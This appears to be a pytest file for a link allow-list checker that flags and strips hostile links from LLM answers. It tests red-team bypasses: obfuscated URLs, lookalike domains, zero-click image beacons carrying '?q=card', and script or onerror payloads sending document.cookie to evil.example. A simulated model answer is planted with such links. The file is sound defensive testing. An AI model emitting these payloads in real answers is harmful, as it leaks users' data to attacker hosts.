"""The link allow-list against the bypasses the red team found (issue 9 §4) and variants of each
class, table-driven. Every hostile answer must be flagged, and after `strip_links` a renderer
(markdown-it with HTML on, read back by a browser's URL rules) must find no link, image or bare
host name outside the allow-list. Visible controls must pass untouched.
"""

from __future__ import annotations

import html
import itertools
import random

import pytest
from markdown_it import MarkdownIt
from redteam_log import record
from selectolax.lexbor import LexborHTMLParser

from docket.checks.html_loads import loads
from docket.checks.links import REMOVED, find_links, flagged_links, strip_links
from docket.checks.urls import bare_links, destination, host_allowed, normalise_char, registrable
from docket.errors import InputError

ALLOW = ["trusted.com"]

# (name, answer, a host that must be flagged)
BYPASSES = [
    # entities inside Markdown destinations
    ("image &sol; credentials", "![x](https://evil.example&sol;@trusted.com/p.png?q=card)", "evil.example"),
    ("link &sol;", "[help](https://evil.example&sol;@trusted.com/)", "evil.example"),
    ("link &quest;", "[help](https://evil.example&quest;@trusted.com/)", "evil.example"),
    ("link &num;", "[help](https://evil.example&num;@trusted.com/)", "evil.example"),
    ("link &#x2F;", "[help](https://evil.example&#x2F;@trusted.com/)", "evil.example"),
    ("link &#47;", "[help](https://evil.example&#47;@trusted.com/)", "evil.example"),
    ("reference &sol;", "[help][r]\n\n[r]: https://evil.example&sol;@trusted.com/", "evil.example"),
    ("reference image &quest;", "![x][r]\n\n[r]: https://evil.example&quest;@trusted.com/p.png", "evil.example"),
    ("shortcut reference", "See [help].\n\n[help]: https://evil.example&#x2F;@trusted.com", "evil.example"),
    ("a href &sol;", '<a href="https://evil.example&sol;@trusted.com/">help</a>', "evil.example"),
    ("a href &#x2F; unquoted", "<a href=https://evil.example&#x2F;@trusted.com/>help</a>", "evil.example"),
    ("img src &num;", '<img src="https://evil.example&num;@trusted.com/p.png">', "evil.example"),
    ("entity-encoded scheme", "[x](&#104;ttps://evil.example/)", "evil.example"),
    ("entity-encoded javascript", "[x](jav&#x61;script:alert(document.cookie))", "javascript:"),
    # newline or tab inside quoted attributes
    ("href with a newline", '<a href="https://evil.exa\nmple/steal">help</a>', "evil.example"),
    ("src with a tab", '<img src="https://evil.exa\tmple/p.png?q=card">', "evil.example"),
    ("src with a newline in a paragraph", 'Fees [S1] <img\nsrc="https://evil.\nexample/p.png"> apply.', "evil.example"),
    ("single-quoted src with a newline", "<img src='https://ev\nil.example/p.png'>", "evil.example"),
    ("html block with a newline", '<div>\n<img src="https://evil.example/\nx.png">\n</div>', "evil.example"),
    # backslashes
    ("backslash in a link", "[help](https://evil.example\\@trusted.com/)", "evil.example"),
    ("backslash in an autolink", "<https://evil.example\\@trusted.com/>", "evil.example"),
    ("backslash in a bare URL", "Go to https://evil.example\\@trusted.com/ now.", "evil.example"),
    ("backslash in an href", '<a href="https://evil.example\\@trusted.com/">help</a>', "evil.example"),
    ("backslashes as slashes", "[x](https:\\\\evil.example\\p)", "evil.example"),
    # bare domains whatever the TLD
    ("bare .win", "Claim it at nimbus-refunds.win today.", "nimbus-refunds.win"),
    ("bare .ninja", "Ask support.ninja for a faster refund.", "support.ninja"),
    ("bare .ro", "Send the form to refunds.ro please.", "refunds.ro"),
    ("bare second-level .co.uk", "Write to nimbus.co.uk.", "nimbus.co.uk"),
    ("bare punycode", "Visit xn--nmbus-9ve.com for help.", "xn--nmbus-9ve.com"),
    ("bare IDN lookalike", "Visit n\u0456mbus.com for help.", "xn--nmbus-n2e.com"),
    ("bare IDN TLD", "Visit пример.рф for help.", "xn--e1afmkfd.xn--p1ai"),
    ("bare with a path", "Upload it to evil.win/upload?card=1.", "evil.win"),
    ("bare www with an unknown suffix", "Open www.evil.zzzz now.", "www.evil.zzzz"),
    ("bare split by emphasis", "Visit **evil**.win now.", "evil.win"),
    ("bare split by a tag", "Visit evil<span></span>.win now.", "evil.win"),
    ("bare scheme-relative text", "Open <//evil.example/p.png> now.", "evil.example"),
    ("bare with an escaped dot", "Visit evil\\.win now.", "evil.win"),
    ("bare with an entity dot", "Visit evil&period;win now.", "evil.win"),
    ("bare with a zero-width space", "Visit evil\u200b.win now.", "evil.win"),
    ("bare with full-width letters", "Visit ｅｖｉｌ．ｗｉｎ now.", "evil.win"),
    ("bare with an ideographic dot", "Visit evil\u3002win now.", "evil.win"),
    ("bare inside a link's text", "[evil.win](https://trusted.com/)", "evil.win"),
    ("e-mail on a new TLD", "Mail your card to billing@nimbus.support.", "nimbus.support"),
    ("mailto with entities", "[mail](mailto:billing&#64;evil.example)", "evil.example"),
    # credentials, encodings, numbers
    ("credentials", "[x](https://trusted.com@evil.example/)", "evil.example"),
    ("credentials with a password", "[x](https://trusted.com:pw@evil.example/)", "evil.example"),
    ("percent-encoded dot", "[x](https://evil%2Eexample/)", "evil.example"),
    ("trusted as a subdomain", "[x](https://trusted.com.evil.example/)", "trusted.com.evil.example"),
    ("trusted as a suffix without a dot", "[x](https://eviltrusted.com/)", "eviltrusted.com"),
    ("hex IP", "![x](http://0x7f.1/p.png)", "127.0.0.1"),
    ("decimal IP", "[x](http://2130706433/)", "127.0.0.1"),
    ("scheme-relative", "![x](//evil.example/p.png)", "evil.example"),
    ("scheme without slashes", "[x](https:evil.example)", "evil.example"),
    ("scheme without slashes in src", '<img src="http:evil.example/p.png">', "evil.example"),
    ("javascript with a newline", '<a href="java\nscript:alert(1)">x</a>', "javascript:"),
    ("entity-encoded javascript in href", '<a href="&#x6A;avascript:alert(1)">x</a>', "javascript:"),
    ("link across lines", "[click\nhere](https://evil.example)", "evil.example"),
    ("reference across lines", '[r]:\n  https://evil.example\n  "title"\n\n[x][r]', "evil.example"),
    ("reference in a blockquote", "> [r]: https://evil.example\n> [x][r]", "evil.example"),
    ("tag name then a newline", '<a\nhref="https://evil.example">x</a>', "evil.example"),
    ("unquoted src", "<img src=https://evil.example/p.png>", "evil.example"),
    ("upper-case tag", "<IMG SRC='https://evil.example/p'>", "evil.example"),
    ("svg image", '<svg><image href="https://evil.example/p"/></svg>', "evil.example"),
    ("ping", '<a href="https://trusted.com/" ping="https://evil.example/t">x</a>', "evil.example"),
    ("entity in HTML text", "<p>evil&#46;win</p>", "evil.win"),
    ("bare with a port", "Visit evil.example:8080/x now", "evil.example"),
    ("in a nested list", "* [a](https://evil.example)\n    * ![b](https://evil.example/b.png)", "evil.example"),
    ("in an indented code block", "Text\n\n    curl https://evil.win/x\n", "evil.win"),
    ("upper-case scheme", "[x](HTTPS://EVIL.EXAMPLE/)", "evil.example"),
    ("angle destination with spaces", "[x](<https://evil.example/a b>)", "evil.example"),
    ("title after the destination", '[x](https://evil.example/ "https://trusted.com/")', "evil.example"),
    # zero-click images and other URL attributes
    ("image in a link", "[![logo](https://evil.example/p.png)](https://trusted.com/)", "evil.example"),
    ("srcset", '<img srcset="https://evil.example/a.png 1x, https://trusted.com/b.png 2x">', "evil.example"),
    ("picture source", '<picture><source srcset="https://evil.example/a.webp"></picture>', "evil.example"),
    ("video poster", '<video poster="https://evil.example/p.jpg"></video>', "evil.example"),
    ("style url()", '<span style="background:url(https://evil.example/p.png)">x</span>', "evil.example"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "evil.example"),
    ("base href", '<base href="https://evil.example/">', "evil.example"),
    ("form action", '<form action="https://evil.example/post"><button>Go</button></form>', "evil.example"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', "evil.example"),
    ("data: image", "![x](data:image/png;base64,iVBORw0KGgo=)", "data:"),
    ("javascript link", "[x](javascript:alert(1))", "javascript:"),
    ("event handler", '<img src="logo.png" onerror="fetch(\'https://evil.example/\'+document.cookie)">', "javascript:"),
    ("event handler on a link", '<a href="/help" onmouseover="location=\'https://evil.example\'">help</a>', "javascript:"),
    ("script element", "<script>new Image().src='https://evil.example/'+document.cookie</script>", "javascript:"),
    ("style sheet url()", "<style>body{background:url('https://evil.example/p.png')}</style>", "evil.example"),
    ("style sheet @import", '<style>@import "https://evil.example/x.css";</style>', "evil.example"),
    # Markdown containers
    ("in a list", "- fees\n- ![x](https://evil.example/p.png)", "evil.example"),
    ("in a blockquote", "> note\n> [help](https://evil.example/)", "evil.example"),
    ("in a table", "| a | b |\n|---|---|\n| x | [y](https://evil.example/) |", "evil.example"),
    ("in a heading", "## See [help](https://evil.example/)", "evil.example"),
    ("in a code span", "Run `curl https://evil.example/x`.", "evil.example"),
    ("in a fenced block", "```\ncurl https://evil.win/x\n```", "evil.win"),
]

# answers whose links are all allowed (or that hold no link): nothing flagged, strip changes nothing
CLEAN = [
    ("allowed link", "[docs](https://help.trusted.com/refunds)"),
    ("allowed bare URL", "See https://trusted.com/a?b=c."),
    ("allowed bare domain", "See help.trusted.com for more."),
    ("allowed image", "![logo](https://cdn.trusted.com/l.png)"),
    ("anchor", "See [fees](#fees) for the 15% fee."),
    ("relative path", "See [pricing](/pricing) and [terms](terms.html)."),
    ("allowed mail", "Mail billing@trusted.com or [us](mailto:billing@trusted.com)."),
    ("allowed href with an entity", '<a href="https://trusted.com/a?x=1&amp;y=2">x</a>'),
    ("trailing dot host", "[x](https://trusted.com./)"),
    ("abbreviations", "Use e.g. the U.S. form, i.e. the one from Dr. Smith at 9 a.m."),
    ("numbers", "Version 1.2.3 costs 3.14 EUR, 5.5% more than v2.0."),
    ("file names in code", "Edit `config.py`, `README.md` and `build.sh`."),
    ("file names in a fence", "```\npython setup.py install\ncat notes.md\n```"),
    ("library names", "It uses Node.js and Vue.js."),
    ("citations", "Refunds take 10 business days [S2][S3]."),
    ("emphasis", "The *fee* is **15%** of the amount."),
]


_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_MD.validateLink = lambda url: True  # type: ignore[method-assign]


def live_outside(answer: str, allow: list[str]) -> list[str]:
    """What a renderer shows that leads outside the allow-list: hosts of what the HTML5 trees of
    the rendered answer (and of the raw answer) load, and host names in the rendered text."""
    bad: list[str] = []
    for source in (_MD.render(answer), answer):
        for ld in loads(source):
            d = destination(ld.url)
            if d.relative:
                continue
            if not d.host or not host_allowed(d.host, allow):
                bad.append(d.domain)
    tree = LexborHTMLParser(_MD.render(answer))
    seen = "".join(normalise_char(c) for c in (tree.body.text(deep=True) if tree.body is not None else ""))
    for f in bare_links(seen, in_code=True):
        d = destination(f.url if f.kind != "domain" else "//" + f.url)
        if not d.relative and (not d.host or not host_allowed(d.host, allow)):
            bad.append(d.domain)
    return bad


@pytest.mark.parametrize(("name", "answer", "host"), BYPASSES, ids=[b[0] for b in BYPASSES])
def test_bypass_is_flagged_and_stripped(name: str, answer: str, host: str) -> None:
    flagged = flagged_links(answer, ALLOW)
    assert host in {lk.domain for lk in flagged}, f"{name}: flagged {[lk.to_json() for lk in flagged]}"
    stripped = strip_links(answer, ALLOW)
    assert flagged_links(stripped, ALLOW) == [], f"{name}: {stripped!r}"
    assert live_outside(stripped, ALLOW) == [], f"{name}: a live remnant in {stripped!r}"


@pytest.mark.parametrize(("name", "answer"), CLEAN, ids=[c[0] for c in CLEAN])
def test_clean_answers_pass_untouched(name: str, answer: str) -> None:
    assert flagged_links(answer, ALLOW) == [], [lk.to_json() for lk in flagged_links(answer, ALLOW)]
    assert strip_links(answer, ALLOW) == answer


def test_strip_keeps_what_a_reader_needs() -> None:
    answer = ("Refunds take 10 days [S2]. See [the refund desk](https://evil.example/claim) or "
              "[docs](https://help.trusted.com/r). ![pixel](https://evil.example/p.png?q=card) Thanks.")
    out = strip_links(answer, ALLOW)
    assert out == ("Refunds take 10 days [S2]. See the refund desk or [docs](https://help.trusted.com/r). Thanks.")
    html_answer = 'Read <a href="https://evil.example/x" title="t">the guide</a> now.'
    assert strip_links(html_answer, ALLOW) == 'Read <a title="t">the guide</a> now.'
    assert strip_links("Visit evil.win today.", ALLOW) == f"Visit {REMOVED} today."
    # a definition that only a stripped link used goes with it
    assert strip_links("See [help][r].\n\n[r]: https://evil.example/\n", ALLOW).strip() == "See help."


def test_every_reading_is_judged() -> None:
    # CommonMark reads `\@` as an escaped @ (host trusted.com); a browser reading the raw text gets evil.example
    links = flagged_links("[x](https://evil.example\\@trusted.com/)", ALLOW)
    assert [lk.domain for lk in links] == ["evil.example"]


def test_registrable_domain_is_reported() -> None:
    lk = flagged_links("[x](https://a.b.evil.co.uk/p)", ALLOW)[0]
    assert lk.domain == "a.b.evil.co.uk" and lk.registrable == "evil.co.uk"
    assert lk.to_json()["registrable_domain"] == "evil.co.uk"
    assert registrable("x.nimbus.github.io") == "nimbus.github.io"


@pytest.mark.parametrize("entry", ["com", "co.uk", "*.github.io", "https://github.io/", "example"])
def test_public_suffix_on_the_allow_list_is_refused(entry: str) -> None:
    with pytest.raises(InputError, match="public suffix"):
        flagged_links("x", [entry])


def test_allow_list_entries_are_normalised() -> None:
    text = "[a](https://help.trusted.com/) [b](https://xn--mnchen-3ya.de/) [c](https://sub.nimbus.github.io/)"
    for allow in (["TRUSTED.com.", "münchen.de", "nimbus.github.io"],
                  ["https://trusted.com/path", "*.münchen.de", ".nimbus.github.io"]):
        assert flagged_links(text, allow) == []
    with pytest.raises(InputError, match="not a domain"):
        flagged_links(text, ["http://"])


def test_links_have_source_spans() -> None:
    text = "A [b](https://evil.example/) c <img src='https://evil.example/p'> d evil.win"
    for lk in find_links(text):
        assert lk.start < lk.end
        piece = text[lk.start:lk.end]
        assert "evil" in html.unescape(piece)


# -- red team: combinations ---------------------------------------------------------------------

_HOSTS = ["evil.example", "exfil.win", "refunds.ninja", "plata.ro", "xn--nmbus-9ve.com", "n\u0456mbus.com",
          "trusted.com.evil.example", "evil.co.uk"]


def _obfuscations(host: str) -> list[str]:
    """The same hostile URL written in ways a renderer or a browser still follows."""
    url = f"https://{host}/p.png?q=card"
    at = f"https://{host}&sol;@trusted.com/p.png"
    return [
        url, url.upper().replace("?Q=CARD", "?q=card") if host.isascii() else url, f"//{host}/p.png",
        at, at.replace("&sol;", "&#x2F;"), at.replace("&sol;", "&#47;"), at.replace("&sol;", "&quest;"),
        at.replace("&sol;", "&num;"), f"https://{host}\\@trusted.com/", f"https://trusted.com@{host}/",
        f"https://trusted.com:x@{host}/", url.replace(".", "%2E", 1) if "." in host else url,
        f"https://{host.replace('.', '。', 1)}/p", f"&#104;ttps://{host}/p",
    ]


def _containers(url: str, host: str) -> list[str]:
    raw = url.replace("\\", "\\\\")
    return [
        f"![x]({url})", f"[help]({url})", f"[help]({url} \"t\")", f"[help][r]\n\n[r]: {url}",
        f"![x][r]\n\n[r]: {url}", f"[r]\n\n[r]: {url}", f"<{url}>" if "&" not in url else f"[a](<{url}>)",
        f'<a href="{url}">help</a>', f"<a href='{url}'>help</a>", f'<img src="{url}">',
        f'<img alt=x\nsrc="{url}">', f'<img src="{url[:12]}\n{url[12:]}">', f'<img src="{url[:10]}\t{url[10:]}">',
        f'<img srcset="{url} 2x">', f"- item\n- ![x]({url})", f"> quote [help]({url})",
        f"| a |\n|---|\n| [b]({url}) |", f"**[help]({url})**", f"Text {raw} end." if "&" not in url else f"T <{url}>",
        f"Visit {host} now.", f"Visit {host}/claim now.", f"Mail refunds@{host} now.",
    ]


def _hostile_answers(n: int | None = None, seed: int = 4) -> list[tuple[str, str]]:
    cases = [(host, answer) for host in _HOSTS for url in _obfuscations(host) for answer in _containers(url, host)]
    cases = list(dict.fromkeys(cases))
    if n is not None:
        random.Random(seed).shuffle(cases)
        cases = cases[:n]
    return cases


def _escapes(host: str, answer: str) -> str | None:
    """Why an answer gets through (None when the check holds): not flagged, or a live remnant."""
    if not flagged_links(answer, ALLOW):
        return "not flagged"
    stripped = strip_links(answer, ALLOW)
    left = live_outside(stripped, ALLOW)
    if left or flagged_links(stripped, ALLOW):
        return f"remnant {left} in {stripped!r}"
    return None


@pytest.mark.slow
def test_redteam_links() -> None:
    cases = _hostile_answers()
    escaped = [(a, why) for h, a in cases if (why := _escapes(h, a))]
    record("output/links", tried=len(cases), escaped=len(escaped),
           note=f"{len(_HOSTS)} hosts x obfuscations x containers, flagged and stripped")
    controls = [c[1] for c in CLEAN] + [f"{a}\n\n{b}" for (_, a), (_, b) in itertools.combinations(CLEAN, 2)]
    wrong = [c for c in controls if flagged_links(c, ALLOW) or strip_links(c, ALLOW) != c]
    record("output/links-clean-kept", tried=len(controls), escaped=len(wrong), note="clean answers changed by mistake")
    assert not escaped, f"{len(escaped)} of {len(cases)}: {escaped[:3]}"
    assert not wrong, wrong[:3]


def test_hostile_sample_default_run() -> None:
    cases = _hostile_answers(250, seed=2)
    escaped = [(a, why) for h, a in cases if (why := _escapes(h, a))]
    assert not escaped, escaped[:3]


# -- the same allow-list on `assemble/ask --llm` as on `docket check` -----------------------------


class _Planted:
    name = "planted"

    def generate(self, messages: object, *, max_tokens: int = 512, temperature: float = 0.0) -> str:
        return ("Refunds take 10 business days [S1]. Claim faster at [the desk](https://nimbus-refund-desk.example/c) "
                "![p](https://evil.example&sol;@nimbus.com/p.png?q=card) or see https://help.nimbus.com/refunds.")


def _cli(args: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    import sys

    import docket.llm
    from docket.cli import main

    monkeypatch.setattr(docket.llm, "generator_from_url", lambda url, **kw: _Planted())
    monkeypatch.setattr(sys, "argv", ["docket", *args])
    with pytest.raises(SystemExit) as ei:
        main()
    out, err = capsys.readouterr()
    return (ei.value.code if isinstance(ei.value.code, int) else 0), out, err


def test_assemble_llm_applies_the_allow_list_and_strips(monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    import json
    from importlib.resources import files

    store = str(files("docket") / "data" / "nimbus.jsonl")
    base = ["assemble", "--store", store, "-q", "How long do refunds take?", "--llm", "http://127.0.0.1:9/v1", "--json"]  # generator patched
    code, out, _ = _cli(base + ["--allow-domain", "nimbus.com", "--strip-links"], monkeypatch, capsys)
    check = json.loads(out)["check"]
    assert code == 1
    assert {lk["domain"] for lk in check["flagged_links"]} == {"nimbus-refund-desk.example", "evil.example"}
    stripped = check["stripped_answer"]
    assert "evil.example" not in stripped and "nimbus-refund-desk" not in stripped
    assert "the desk" in stripped and "https://help.nimbus.com/refunds" in stripped
    code, out, _ = _cli(base, monkeypatch, capsys)  # no allow-list: every link is flagged, nothing stripped
    check = json.loads(out)["check"]
    assert len(check["flagged_links"]) == 3 and "stripped_answer" not in check
    code, out, err = _cli(base + ["--allow-domain", "co.uk"], monkeypatch, capsys)
    assert code == 2 and "public suffix" in err and err.count("\n") == 1


@pytest.mark.parametrize("depth", [5, 25, 99, 150])
@pytest.mark.parametrize("wrap", [lambda n, s: ">" * n + " " + s, lambda n, s: "".join("  " * i + "- x\n" for i in range(n // 2))
                                  + "  " * (n // 2) + "- " + s])
def test_a_link_nested_deep_is_still_flagged(depth: int, wrap: object) -> None:
    """markdown-it's CommonMark preset stops parsing at 20 levels and renders nothing deeper, which
    hid a link in 21 nested quotes from the check while a viewer renders it. The parser now nests
    as deep as docket's Markdown reading (100); past that, every URL-like text of the answer counts."""
    answer = wrap(depth, "See [here](https://evil.example/x) for details [S1].")  # type: ignore[operator]
    assert [f.domain for f in flagged_links(answer)] == ["evil.example"]
